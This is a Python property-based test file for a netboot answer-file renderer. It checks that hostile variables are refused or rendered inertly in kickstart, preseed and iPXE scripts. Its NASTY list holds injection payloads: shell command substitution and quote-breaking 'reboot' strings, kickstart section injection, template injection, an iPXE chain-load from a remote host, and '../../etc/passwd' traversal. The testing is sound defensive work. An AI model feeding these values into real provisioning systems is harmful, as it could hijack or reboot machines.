"""Hostile variables, from input to output: refused, or rendered without becoming a command, a section or an option."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
from hypothesis import HealthCheck, settings
from hypothesis import given as drawn
from hypothesis import strategies as st

from baremetal.errors import Invalid
from baremetal.netboot.render import render_answer, render_install_script
from baremetal.netboot.variables import DEFAULTS
from tests.unit.netboot.sample import context, frozen

pytestmark = pytest.mark.slow

NASTY = [
    "x\n%end\n%pre\nreboot\n%end",
    "x --iscrypted y",
    "$(reboot)",
    "`reboot`",
    "';reboot;'",
    '";reboot;"',
    "{{ 7*7 }}",
    "{% include 'kickstart/_pre.sh.j2' %}",
    "${netX/mac}",
    "x || chain http://192.0.2.66/x",
    "x\\",
    "#x",
    "BM_EOF",
    "\u2028rootpw x",
    "../../etc/passwd",
    "\x00",
    "é" * 100,
    "9" * 5000,
]
KEY = "ssh-ed25519 " + "A" * 68
COMMANDS = {
    "text",
    "url",
    "lang",
    "keyboard",
    "timezone",
    "timesource",
    "selinux",
    "services",
    "firstboot",
    "rootpw",
}
COMMANDS |= {"network", "%include", "reboot"}
SCRIPT = {
    "#!ipxe",
    "#",
    "echo",
    "imgfree",
    "set",
    "kernel",
    "initrd",
    "boot",
    "inc",
    "iseq",
    "sleep",
    "goto",
    "exit",
}
names = st.sampled_from([*sorted(DEFAULTS), "selinux", "packages", "tasks", "own"])
values = st.sampled_from(NASTY) | st.text(max_size=40)


def kickstart_commands(text: str) -> list[list[str]]:
    """Split the command part of a kickstart as pykickstart would."""
    words = (shlex.split(line, comments=True) for line in text[: text.index("%packages")].splitlines())
    return [line for line in words if line]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@drawn(st.dictionaries(names, values, max_size=4))
def test_no_variable_adds_a_command(variables: dict[str, Any]) -> None:
    try:
        asked = context("rocky9", **variables)
        text = render_answer(frozen("rocky9"), "ks.cfg", asked)
        script = render_install_script(frozen("rocky9"), asked)
    except Invalid:
        return
    commands = kickstart_commands(text)
    assert {line[0] for line in commands} <= COMMANDS
    assert [line for line in commands if line[0] == "rootpw"] == [["rootpw", "--lock"]]
    assert [line.split()[0] for line in text.splitlines() if line.startswith("%")] == [
        *("%include", "%packages", "%end", "%addon", "%end"),
        *("%pre", "%end", "%post", "%end", "%onerror", "%end"),
    ]
    for line in script.splitlines():
        assert line.startswith(":") or line.split()[0] in SCRIPT, line
    assert script.count("||") == 5
    assert "${netX" not in script


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@drawn(st.dictionaries(names, values, max_size=4))
def test_no_variable_adds_a_preseed_line(variables: dict[str, Any]) -> None:
    try:
        text = render_answer(frozen("debian12"), "preseed.cfg", context("debian12", **variables))
    except Invalid:
        return
    for line in text.splitlines():
        assert line.split(maxsplit=1)[0] in ("d-i", "tasksel", "popularity-contest"), line
    assert len(text.splitlines()) <= 32


@pytest.mark.parametrize("nasty", [value for value in NASTY if value != "BM_EOF"])
@pytest.mark.parametrize("name", sorted(DEFAULTS))
def test_a_nasty_value_of_a_known_variable_is_refused_by_name(name: str, nasty: str) -> None:
    given: dict[str, Any] = {name: nasty}
    with pytest.raises(Invalid) as caught:
        context("rocky9", **given)
    assert caught.value.variable == name


def test_the_keys_of_operators_stay_inside_their_file() -> None:
    text = render_answer(
        frozen("rocky9"), "ks.cfg", context("rocky9", ssh_authorized_keys=[KEY + " $(reboot) `id` '"])
    )
    at = text.index(KEY)
    assert text.rindex("<<'BM_EOF'", 0, at) < at < text.index("\nBM_EOF\n", at)
